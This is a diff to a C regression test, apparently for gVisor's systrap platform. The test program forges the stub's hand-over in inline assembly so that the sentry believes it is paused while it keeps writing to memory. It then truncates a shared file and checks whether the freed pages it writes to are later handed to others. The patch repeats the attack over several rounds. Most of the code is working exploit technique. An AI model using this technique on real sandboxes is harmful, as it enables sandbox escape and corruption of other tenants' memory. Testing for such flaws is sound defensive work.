@@ -1,7 +1,7 @@
 /*
  * A program that knows how systrap's stub hands over, says that it is in pause(), and runs on. Its pages are then
  * taken from it (the file that it has mapped becomes empty) and serve others: nothing that it writes may arrive there.
- * On Linux, and where no such stub is, there is nothing to forge, and the file just becomes empty.
+ * On Linux, and where no such stub is, there is nothing to forge, and pause() is real.
  *
  * The stub's code is found by its bytes; where its words lie is written down here once more, as an attacker would have it.
  */
@@ -22,7 +22,8 @@
 #define CODE 0x7ffffff02000ul
 #define CODE_SIZE 0x3000ul
 #define SHARED 64ul  /* pages of the file */
-#define VICTIM 2048ul /* pages of memory that others get */
+#define VICTIM 2048ul /* pages that others get */
+#define ROUNDS 6u
 #define PATTERN 0x6d656e6573212121ul
 
 static sigjmp_buf back;
@@ -49,13 +50,16 @@ static const uint8_t *find_hand_over(void)
 
 /*
  * The frame that a real call left becomes pause() for the sentry and a way to 1: for ourselves; the stub is told that the
- * next stretch has been asked for already. rbx and rbp are what the stub's code wants: orders and area.
+ * next stretch has been asked for already. rbx and rbp are what the stub's code wants: orders and area. Then
+ * write to the pages for ever.
  */
 static void __attribute__((noreturn)) forge(const uint8_t *hand_over, volatile uint64_t *pages)
 {
-	register uint64_t r12 __asm__("r12") = (uint64_t)pages, r13 __asm__("r13") = PATTERN;
-
 	syscall(SYS_getpgid, 0);
+
+	register uint64_t r12 __asm__("r12") = (uint64_t)pages, r13 __asm__("r13") = PATTERN;
+	register const uint8_t *r14 __asm__("r14") = hand_over;
+
 	__asm__ volatile("movabsq $0x7ffffff00000, %%rbx\n\t"
 			 "movq 0x50(%%rbx), %%rcx\n\t"     /* the frame to go on from */
 			 "leaq 1f(%%rip), %%rax\n\t"
@@ -68,7 +72,7 @@ static void __attribute__((noreturn)) forge(const uint8_t *hand_over, volatile u
 			 "movabsq $0x7ffffff10000, %%rcx\n\t"
 			 "movl %%eax, 8(%%rcx)\n\t"        /* seen: not what is asked for */
 			 "movq %%rcx, %%rbp\n\t"
-			 "jmp *%0\n"
+			 "jmp *%%r14\n"
 			 "1:\tmovq %%r12, %%rax\n"
 			 "2:\tmovq %%r13, (%%rax)\n\t"
 			 "addq $4096, %%rax\n\t"
@@ -77,7 +81,7 @@ static void __attribute__((noreturn)) forge(const uint8_t *hand_over, volatile u
 			 "jb 2b\n\t"
 			 "jmp 1b"
 			 :
-			 : "r"(hand_over), "r"(r12), "r"(r13)
+			 : "r"(r12), "r"(r13), "r"(r14)
 			 : "rax", "rbx", "rcx", "memory");
 	__builtin_unreachable();
 }
@@ -90,41 +94,42 @@ static uint64_t milliseconds(void)
 	return (uint64_t)t.tv_sec * 1000 + (uint64_t)t.tv_nsec / 1000000;
 }
 
-/* It writes without a call: zeros do not last. */
+/* It writes without a call: a zero does not last. */
 static int runs_on(volatile uint64_t *pages)
 {
-	uint64_t until = milliseconds() + 3000;
+	uint64_t until = milliseconds() + 50;
 
-	while (milliseconds() < until) {
+	do {
 		pages[0] = 0;
 		usleep(2000);
-		if (pages[0] == PATTERN)
-			return 1;
-	}
-	return 0;
+	} while (pages[0] != PATTERN && milliseconds() < until);
+	return pages[0] == PATTERN;
 }
 
-/* Memory that just got free serves us; does anybody write to it? */
+/* Memory that just got free, page by page, serves us; does anybody write to it? */
 static void use_what_was_theirs(void)
 {
-	uint64_t *p = mmap(NULL, VICTIM * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
-	uint64_t until = milliseconds() + 150;
+	int fd = (int)syscall(SYS_memfd_create, "ours", 0);
+	uint64_t until, *p;
 	unsigned long bad = 0;
 
+	CHECK(fd >= 0 && ftruncate(fd, VICTIM * PAGE) == 0);
+	p = mmap(NULL, VICTIM * PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+	CHECK(p != MAP_FAILED);
 	for (unsigned long i = 0; i < VICTIM; i++)
 		p[i * PAGE / 8] = i;
-	while (milliseconds() < until) {
+	for (until = milliseconds() + 50; milliseconds() < until; usleep(1000))
 		for (unsigned long i = 0; i < VICTIM; i++)
 			bad += p[i * PAGE / 8] != i;
-		usleep(1000);
-	}
 	CHECK(bad == 0);
 	munmap(p, VICTIM * PAGE);
+	close(fd);
 }
 
-int main(void)
+/* True: the attack was on. */
+static int attack(void)
 {
-	int fd = (int)syscall(SYS_memfd_create, "theirs", 0), status;
+	int fd = (int)syscall(SYS_memfd_create, "theirs", 0), status, on;
 	volatile uint64_t *pages;
 	pid_t pid;
 
@@ -144,13 +149,25 @@ int main(void)
 	}
 	while (pages[(SHARED - 1) * PAGE / 8] != PATTERN)
 		usleep(1000);
-	usleep(20000);
-	if (getenv("FORGE_MUST_RUN"))
-		CHECK(runs_on(pages));
+	usleep(5000);
+	on = runs_on(pages);
 	CHECK(ftruncate(fd, 0) == 0);
 	use_what_was_theirs();
 	kill(pid, SIGKILL);
 	CHECK(waitpid(pid, &status, 0) == pid && WIFSIGNALED(status));
+	munmap((void *)pages, SHARED * PAGE);
+	close(fd);
+	return on;
+}
+
+int main(void)
+{
+	unsigned on = 0;
+
+	for (unsigned i = 0; i < ROUNDS; i++)
+		on += (unsigned)attack();
+	if (getenv("FORGE_MUST_RUN")) /* so that the test does not pass because the attack has grown old */
+		CHECK(on > 0);
 	puts("done");
 	return CHECK_RESULT();
 }
